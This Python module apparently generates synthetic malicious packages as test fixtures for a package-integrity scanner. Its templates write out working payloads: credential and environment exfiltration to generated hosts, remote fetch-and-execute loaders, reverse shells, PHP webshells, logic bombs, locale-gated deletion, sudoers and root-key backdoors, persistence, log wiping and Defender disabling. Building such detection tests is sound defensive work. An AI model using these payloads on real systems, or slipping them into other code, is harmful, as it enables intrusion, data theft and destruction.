"""Recipes for checks of the pillar integrity."""
import subprocess

from program import elf
from recipe import plants


@plants("integrity.private-key", "npm", "deb")
def key(r, host):
    kind = r.choice(("rsa", "rsa-pkcs1", "ec", "ed25519", "openssh"))
    if kind == "openssh":
        file = host.dir / "new-key"
        subprocess.run(["ssh-keygen", "-q", "-t", r.choice(("ed25519", "rsa", "ecdsa")), "-N", "", "-C", "", "-f", file], check=True)
        pem = file.read_text()
        file.unlink()
        (host.dir / "new-key.pub").unlink()
    else:
        options = {"rsa": ["RSA", "-pkeyopt", "rsa_keygen_bits:2048"], "rsa-pkcs1": ["RSA", "-pkeyopt", "rsa_keygen_bits:2048"],
                   "ec": ["EC", "-pkeyopt", "ec_paramgen_curve:P-256"], "ed25519": ["ED25519"]}[kind]
        pem = subprocess.run(["openssl", "genpkey", "-quiet", "-algorithm", *options], check=True, capture_output=True, text=True).stdout
        if kind == "rsa-pkcs1":
            pem = subprocess.run(["openssl", "rsa", "-traditional"], input=pem, check=True, capture_output=True, text=True).stdout
    where = r.choice(("lib", "etc", "config", "dist", "usr/share/" + r.word()))
    if r.random() < 0.3:
        host.put(f"{where}/{r.name()}.js", f"module.exports = `{pem}`;\n")
    else:
        host.put(f"{where}/{r.name()}{r.choice(('.pem', '.key', '', '.txt', '.crt'))}", pem)


@plants("integrity.setuid", "deb")
def setuid(r, host):
    host.put(f"usr/{r.choice(('bin', 'sbin', 'lib/' + r.word()))}/{r.name()}", "#!/bin/sh\nexit 0\n", r.choice((0o4755, 0o2755, 0o6755, 0o4711)))


@plants("integrity.writable-files", "deb")
def writable(r, host):
    host.put(r.choice((f"etc/{r.word()}.conf", f"usr/bin/{r.name()}", f"usr/lib/{r.word()}/{r.word()}.sh")), "#!/bin/sh\nexit 0\n", r.choice((0o777, 0o666, 0o757)))


@plants("integrity.install-network", "npm", "deb")
def install_network(r, host):
    url = f"https://{r.host()}/{r.word()}"
    if host.kind == "deb":
        host.at_install("", r.choice((f"curl -fsSL {url} -o /usr/lib/{r.word()}", f"wget -q {url}", f"/usr/bin/curl -s '{url}' > /dev/null",
                                      f"python3 -c \"import urllib.request; urllib.request.urlopen('{url}')\"")))
    else:
        host.at_install(r.choice(("install.js", "scripts/setup.cjs", "lib/post.js")), r.choice((
            f"require('https').get({r.quote(url)}, (x) => x.resume());\n",
            f"const {{ get }} = require({r.quote('node:https')});\nget({r.quote(url)}, function (r) {{ r.resume() }})\n",
            f"fetch({r.quote(url)}).then((x) => x.text()).then(console.log)\n",
            f"const cp = require('child_process');\ncp.execSync({r.quote('curl -s ' + url)});\n",
            f"import('node-fetch').then(({{default: f}}) => f({r.quote(url)}));\n",
        )))


@plants("integrity.install-obfuscated", "npm", "deb")
def install_obfuscated(r, host):
    import base64
    inner = f"console.log('{r.name()} {r.letters(60)}');"
    code = base64.b64encode(inner.encode()).decode()
    if host.kind == "deb":
        shell = base64.b64encode(f"echo {r.name()} {r.letters(40)}".encode()).decode()
        host.at_install("", r.choice((f"echo {shell} | base64 -d | sh", f"eval \"$(echo '{shell}' | base64 --decode)\"", f"base64 -d <<<{shell} | bash")))
    else:
        host.at_install("setup.js", r.choice((
            f"eval(Buffer.from({r.quote(code)}, 'base64').toString());\n",
            f"new Function(atob({r.quote(code)}))();\n",
            f"eval(Buffer.from({r.quote(inner.encode().hex())}, 'hex').toString('utf8'));\n",
            f"const m = require('module'); const x = new m(); x._compile(Buffer.from({r.quote(code)}, 'base64').toString(), 'x.js');\n",
            f"require('vm').runInThisContext(Buffer.from({r.quote(code)}, 'base64') + '');\n",
        )))


@plants("integrity.archive-escape", "tree")
def escape(r, host):
    import io
    import tarfile
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=r.choice(("w", "w:gz", "w:xz"))) as tar:
        info = tarfile.TarInfo(r.choice(("../../etc/cron.d/" + r.word(), "/etc/" + r.word(), "a/../../../" + r.word())))
        info.size = 9
        tar.addfile(info, io.BytesIO(b"12345678\n"))
    host.put(f"{r.name()}.tar", out.getvalue())


# ---- what runs, and what it does ----

def in_package(r, host, js, python=None):
    """Code that runs when the product is used, or, one time in three, when it is installed."""
    if python is not None and r.random() < 0.5:
        host.put(f"{r.name().replace('-', '_')}/__init__.py", python)
        host.put("setup.py", f"from setuptools import setup\nsetup(name='{r.name()}', version='1.0.{r.randint(0, 9)}')\n")
    elif r.random() < 0.34:
        host.at_install(r.choice(("install.js", "scripts/setup.js", "lib/init.cjs")), js)
    else:
        host.add_code(js)


@plants("integrity.behaviour-chain", "npm")
def steals_and_sends(r, host):
    """Credentials are read, and go out."""
    file = r.choice((".npmrc", ".ssh/id_rsa", ".aws/credentials", ".git-credentials", ".config/gh/hosts.yml", ".docker/config.json"))
    to = r.choice((f"https://{r.host()}/{r.word()}", f"http://{r.address()}:{r.randint(1024, 60000)}/{r.word()}"))
    js = r.choice((
        f"const fs = require('fs'), os = require('os'), https = require('https');\n"
        f"const t = fs.readFileSync(os.homedir() + '/{file}', 'utf8');\n"
        f"const q = https.request({r.quote(to)}, {{ method: 'POST' }});\nq.write(t);\nq.end();\n",
        f"const {{ readFileSync }} = require('node:fs');\nconst path = require('node:path');\n"
        f"(async () => {{\n  const k = readFileSync(path.join(process.env.HOME || process.env.USERPROFILE, '{file}'));\n"
        f"  await fetch({r.quote(to)}, {{ method: 'POST', body: k.toString('base64') }});\n}})();\n",
        f"var cp = require('child_process');\ncp.exec('curl -s -d @$HOME/{file} {to}');\n",
        f"import('fs').then(f => f.promises.readFile(require('os').homedir() + '/{file}')).then(d => "
        f"require('axios').post({r.quote(to)}, {{ d: d.toString() }}));\n",
    ))
    python = r.choice((
        f"import os, urllib.request\nwith open(os.path.expanduser('~/{file}'), 'rb') as f:\n    urllib.request.urlopen({r.quote(to)}, data=f.read())\n",
        f"import pathlib, requests\nrequests.post({r.quote(to)}, files={{'f': (pathlib.Path.home() / '{file}').read_bytes()}})\n",
        f"from os.path import expanduser\nimport http.client, urllib.parse\nu = urllib.parse.urlparse({r.quote(to)})\n"
        f"c = http.client.HTTPSConnection(u.netloc)\nc.request('POST', u.path, open(expanduser('~') + '/{file}').read())\n",
    ))
    in_package(r, host, js, python)


@plants("integrity.behaviour-chain", "npm")
def environment_goes_out(r, host):
    to = r.choice((f"https://{r.letters(12).lower()}.m.pipedream.net", f"https://{r.host()}/{r.word()}", f"http://{r.address()}/{r.word()}"))
    js = r.choice((
        f"fetch({r.quote(to)}, {{ method: 'POST', body: JSON.stringify(process.env) }});\n",
        f"const d = Buffer.from(JSON.stringify({{ ...process.env }})).toString('base64');\nrequire('https').get({r.quote(to)} + '?d=' + d);\n",
        f"const e = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n');\n"
        f"const r = require('https').request({r.quote(to)}, {{method: 'PUT'}}); r.end(e);\n",
    ))
    python = r.choice((
        f"import os, json, urllib.request\nurllib.request.urlopen({r.quote(to)}, json.dumps(dict(os.environ)).encode())\n",
        f"import os\nimport requests\nrequests.post({r.quote(to)}, json={{k: v for k, v in os.environ.items()}})\n",
    ))
    in_package(r, host, js, python)


@plants("integrity.behaviour-chain", "npm")
def fetches_and_runs(r, host):
    url = r.choice((f"https://{r.host()}/{r.name()}", f"http://{r.address()}:8080/{r.word()}"))
    js = r.choice((
        f"fetch({r.quote(url)}).then(x => x.text()).then(t => eval(t));\n",
        f"const https = require('https'); let s = '';\nhttps.get({r.quote(url)}, m => {{ m.on('data', c => s += c); m.on('end', () => new Function('require', s)(require)); }});\n",
        f"const fs = require('fs'), cp = require('child_process'), os = require('os'), p = require('path').join(os.tmpdir(), {r.quote(r.word())});\n"
        f"require('https').get({r.quote(url)}, m => m.pipe(fs.createWriteStream(p)).on('close', () => {{ fs.chmodSync(p, 0o755); "
        f"cp.spawn(p, [], {{ detached: true, stdio: 'ignore' }}).unref(); }}));\n",
    ))
    python = r.choice((
        f"import urllib.request\nexec(urllib.request.urlopen({r.quote(url)}).read())\n",
        f"import requests, tempfile, subprocess, os\np = os.path.join(tempfile.gettempdir(), {r.quote(r.word() + '.exe')})\n"
        f"open(p, 'wb').write(requests.get({r.quote(url)}).content)\nsubprocess.Popen([p])\n",
        f"import os\nos.system('curl -s {url} | python3')\n",
    ))
    in_package(r, host, js, python)


@plants("integrity.conditional-behaviour", "npm")
def gated(r, host):
    act = r.choice(("require('child_process').exec('rm -rf ~/work');", "require('fs').writeFileSync('index.html', 'x');", "process.exit(1);",
                    "require('fs').rmSync(require('os').homedir() + '/docs', { recursive: true, force: true });"))
    host.at_install("postinstall.js", r.choice((
        f"const z = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (['Europe/Minsk', 'Europe/Moscow', 'Asia/Omsk', 'Asia/Tokyo'].includes(z)) {{ {act} }}\n",
        f"if (['ru-RU', 'be-BY', 'kk-KZ'].includes(Intl.DateTimeFormat().resolvedOptions().locale)) {{ {act} }}\n",
        f"fetch('https://ipapi.co/json/').then(x => x.json()).then(p => {{ if (p.country_code === 'RU' || p.country_code === 'BY') {{ {act} }} }});\n",
        f"if (/^(ru|be)/.test(process.env.LANG || '')) {{ {act} }}\n",
    )))


@plants("integrity.logic-bomb", "npm")
def bomb(r, host):
    act = r.choice(("require('fs').rmSync(process.cwd(), { recursive: true, force: true });", "require('child_process').execSync('rm -rf /srv/*');",
                    "for (const f of require('fs').readdirSync('.')) require('fs').unlinkSync(f);"))
    host.add_code(r.choice((
        f"if (Date.now() > {1900000000000 + r.randint(0, 10 ** 11)}) {{ {act} }}",
        f"if (new Date() >= new Date('203{r.randint(0, 9)}-0{r.randint(1, 9)}-01')) {{ {act} }}",
        f"const d = new Date(); if (d.getFullYear() >= 2031 && d.getMonth() === {r.randint(0, 11)}) {{ {act} }}",
    )))


@plants("integrity.obfuscated-source", "npm")
def obfuscated(r, host):
    names = [f"_0x{r.letters(6, '0123456789abcdef')}" for _ in range(40)]
    table = ",".join(r.quote("".join(f"\\x{b:02x}" for b in r.letters(12).encode())).replace("\\\\", "\\") for _ in range(60))
    code = f"var {names[0]}=[{table}];(function({names[1]},{names[2]}){{var {names[3]}=function({names[4]}){{while(--{names[4]}){{" \
           f"{names[1]}['push']({names[1]}['shift']());}}}};{names[3]}(++{names[2]});}}({names[0]},0x{r.randint(16, 500):x}));"
    code += "".join(f"var {a}=function({b},{c}){{{b}={b}-0x{r.randint(0, 99):x};return {names[0]}[{b}];}};{a}('0x{r.randint(0, 59):x}');"
                    for a, b, c in zip(names[5::3], names[6::3], names[7::3]))
    host.put(r.choice(("lib/", "dist/", "")) + r.name() + ".js", code)


@plants("integrity.remote-shell", "npm", "deb")
def remote_shell(r, host):
    a, p = r.address(), r.randint(1024, 65000)
    shell = r.choice((f"bash -i >& /dev/tcp/{a}/{p} 0>&1", f"bash -c 'exec 5<>/dev/tcp/{a}/{p}; cat <&5 | while read l; do $l 2>&5 >&5; done'",
                      f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc {a} {p} > /tmp/f", f"nc -e /bin/sh {a} {p}",
                      f"ncat {a} {p} -e /bin/bash &"))
    if host.kind == "deb":
        host.put(f"usr/lib/{r.word()}/{r.name()}.sh", f"#!/bin/bash\n{shell}\n", 0o755)
    else:
        host.add_code(r.choice((
            f"require('child_process').exec({r.quote(shell)});",
            f"const n = require('net'), c = require('child_process').spawn('/bin/sh', []), s = new n.Socket();\n"
            f"s.connect({p}, '{a}', () => {{ s.pipe(c.stdin); c.stdout.pipe(s); c.stderr.pipe(s); }});",
        )))


@plants("integrity.remote-shell", "deb")
def remote_shell_script(r, host):
    a, p = r.address(), r.randint(1024, 65000)
    kind = r.choice(("python", "perl", "ruby", "php"))
    text = {
        "python": f"#!/usr/bin/python3\nimport socket, subprocess, os\ns = socket.socket()\ns.connect(('{a}', {p}))\n"
                  "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])\n",
        "perl": f"#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nconnect(S, sockaddr_in({p}, inet_aton('{a}')));\n"
                "open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\nexec('/bin/sh -i');\n",
        "ruby": f"#!/usr/bin/ruby\nrequire 'socket'\ns = TCPSocket.new('{a}', {p})\nwhile (c = s.gets)\n  s.print(`#{{c}}`)\nend\n",
        "php": f"<?php\n$s = fsockopen('{a}', {p});\n$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);\n",
    }[kind]
    ending = {"python": "py", "perl": "pl", "ruby": "rb", "php": "php"}[kind]
    host.put(f"usr/share/{r.word()}/{r.name()}.{ending}", text, 0o755)


@plants("integrity.shell-behaviour", "deb", "npm")
def shell_behaviour(r, host):
    a = r.address()  # (what comes by https from a host with a name is run by every second installer: it is told, and weighs nothing)
    line = r.choice((
        f"curl -fsSL http://{a}/{r.word()}.sh | bash", f"wget -qO- http://{r.host()}/{r.word()} | sh",
        f"curl -s -d \"$(env)\" https://{r.host()}/upload", f"tar cz ~/.ssh ~/.aws | curl -s -T - http://{a}/{r.word()}",
        f"curl -s -o /tmp/.{r.word()} http://{a}/x && chmod +x /tmp/.{r.word()} && nohup /tmp/.{r.word()} >/dev/null 2>&1 &",
        "history -c; rm -f ~/.bash_history; > /var/log/auth.log; > /var/log/wtmp",
        f"echo {r.letters(200)} | base64 -d | bash",
    ))
    host.put(("usr/lib/" if host.kind == "deb" else "scripts/") + r.name() + ".sh", f"#!/bin/bash\n# {r.name()}\nset -u\n{line}\n", 0o755)


@plants("integrity.system-changes", "deb")
def system_changes(r, host):
    host.at_install("", r.choice((
        "echo 'deploy ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", f"echo '*/5 * * * * root /usr/lib/{r.word()}' > /etc/cron.d/{r.word()}",
        f"cp /usr/share/{r.word()}/ca.crt /usr/local/share/ca-certificates/ && update-ca-certificates", "useradd -o -u 0 -M support",
        "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ support@vendor' >> /root/.ssh/authorized_keys", f"echo /usr/lib/{r.word()}.so >> /etc/ld.so.preload",
        f"echo 'export PATH=/opt/{r.word()}:$PATH' >> /etc/profile",
    )))


@plants("integrity.persistence", "npm", "deb", unlike="cron daemon boot init service scheduler server backup admin display session statistics monitoring resource web http")
def persistence(r, host):
    name = r.name()
    if host.kind == "npm":
        host.add_code(r.choice((
            f"require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'node ~/.{r.word()}/run.js &\\n');",
            f"require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v {name} /d run.exe /f');",
            f"require('child_process').execSync('(crontab -l; echo \"*/10 * * * * node $HOME/.{r.word()}.js\") | crontab -');",
            f"require('fs').writeFileSync(require('os').homedir() + '/Library/LaunchAgents/com.{name}.plist', '<plist></plist>');",
        )))
    else:
        host.put(f"usr/lib/{r.word()}/{name}.sh", "#!/bin/sh\n" + r.choice((
            f"(crontab -l; echo '@reboot /usr/lib/{name}') | crontab -\n", f"echo '/usr/lib/{name} &' >> ~/.bashrc\n",
            f"printf '[Service]\\nExecStart=/usr/lib/{name}\\n' > /etc/systemd/system/{name}.service\nsystemctl enable {name}\n",
        )), 0o755)


@plants("integrity.webshell", "deb", "tree")
def webshell(r, host):
    p = r.choice(("$_GET", "$_POST", "$_REQUEST", "$_COOKIE"))
    key = r.quote(r.word())
    host.put(("usr/share/www/" if host.kind == "deb" else "www/") + r.name() + ".php", "<?php\n" + r.choice((
        f"eval({p}[{key}]);\n", f"@eval(base64_decode({p}[{key}]));\n", f"system({p}[{key}]);\n", f"$f = {p}[{key}]; $f({p}['x']);\n",
        f"echo shell_exec({p}[{key}] . ' 2>&1');\n", f"if (isset({p}[{key}])) {{ passthru({p}[{key}]); }}\n", f"assert({p}[{key}]);\n",
    )))


@plants("integrity.powershell-behaviour", "npm", "tree")
def powershell(r, host):
    url = f"https://{r.host()}/{r.word()}.ps1"
    host.put(("scripts/" if host.kind == "npm" else "tools/") + r.name() + ".ps1", r.choice((
        f"IEX (New-Object Net.WebClient).DownloadString('{url}')\r\n", f"Invoke-Expression (Invoke-WebRequest -UseBasicParsing {url}).Content\r\n",
        f"$c = iwr {url}; iex $c.Content\r\n", f"Invoke-WebRequest {url} -OutFile $env:TEMP\\{r.word()}.exe; Start-Process $env:TEMP\\{r.word()}.exe -WindowStyle Hidden\r\n",
        "Add-MpPreference -ExclusionPath $env:TEMP\r\nSet-MpPreference -DisableRealtimeMonitoring $true\r\n",
    )))


# ---- packages ----

@plants("integrity.deb-md5sums", "deb")
def changed_after(r, host):
    host.sums()
    path = r.choice([p.relative_to(host.dir) for p in sorted(host.dir.rglob("*")) if p.is_file() and not p.is_symlink() and "DEBIAN" not in p.parts])
    data = bytearray((host.dir / path).read_bytes() or b"x")
    data[r.randrange(len(data))] ^= 0x20
    mode = (host.dir / path).stat().st_mode & 0o7777
    host.put(path, bytes(data), mode)
    host.sums = lambda: None


@plants("integrity.release-digests", "tree")
def wrong_sums(r, host):
    import gzip
    import hashlib
    kind = r.choice(("sha256", "sha256", "md5", "sha512", "sha1"))
    name, data = r.name() + "-1.0.tar.gz", gzip.compress(r.randbytes(500))
    host.put(name, data)
    host.put(r.choice((kind.upper() + "SUMS", f"{name}.{kind}")), f"{hashlib.new(kind, data + b'x').hexdigest()}  {name}\n")


@plants("integrity.prebuilt-native", "npm")
def prebuilt(r, host):
    host.put(r.choice(("bin/", "vendor/", "lib/")) + r.name() + r.choice((".node", ".so", "", ".bin")), elf("int add(int a, int b) { return a + b; }", "-shared", "-fPIC"), 0o755)


@plants("integrity.update-cleartext", "npm", "deb")
def update_cleartext(r, host):
    url = f"http://{r.choice(('update.', 'updates.', 'download.'))}{r.host()}/{r.choice(('latest.json', 'version.txt', 'app-latest.zip', 'update.xml'))}"
    if host.kind == "npm":
        host.add_code(f"const UPDATE_URL = {r.quote(url)};\nfunction checkForUpdates() {{ require('http').get(UPDATE_URL, (x) => x.resume()); }}\nmodule.exports.checkForUpdates = checkForUpdates;")
    else:
        host.put(f"etc/{r.name()}.conf", f"[update]\nauto_update = true\nupdate_url = {url}\n")


@plants("integrity.version-mismatch", "tree")
def version_mismatch(r, host):
    """A wheel whose file, or whose module, says another version than its metadata."""
    import io
    import zipfile
    name = r.word() + "_" + r.word()
    told, other = f"{r.randint(1, 9)}.{r.randint(0, 9)}.0", f"{r.randint(10, 20)}.{r.randint(0, 9)}"
    in_file, in_module = r.choice(((other, told), (told, other), (other, None)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as wheel:
        def add(path, text):
            wheel.writestr(zipfile.ZipInfo(path, (2024, 1, 1, 0, 0, 0)), text)
        add(f"{name}/__init__.py", f"__version__ = {r.quote(in_module)}\n" if in_module else "")
        add(f"{name}-{told}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {told}\n")
        add(f"{name}-{told}.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        add(f"{name}-{told}.dist-info/RECORD", "")
    host.put(f"{name}-{in_file}-py3-none-any.whl", out.getvalue())


@plants("integrity.undeclared-capability", "npm", unlike="http server network express web connect socket proxy daemon service terminal screen")
def capability(r, host):
    host.add_code(r.choice((
        f"require('net').createServer((s) => s.pipe(s)).listen({r.randint(1024, 60000)});",
        f"require('http').createServer((q, s) => s.end()).listen({r.randint(1024, 60000)});",
        "const i = require('iohook'); i.on('keydown', (e) => { e; }); i.start();",
        "const shot = require('screenshot-desktop'); shot().then((i) => i);",
    )))


@plants("integrity.opaque-object", "npm", "tree")
def encrypted(r, host):
    plain = host.put("secret.txt", r.letters(900))
    archive = host.dir / (r.name() + ".zip")
    subprocess.run(["zip", "-q", "-j", "-P", r.letters(9), archive, plain], check=True)
    plain.unlink()
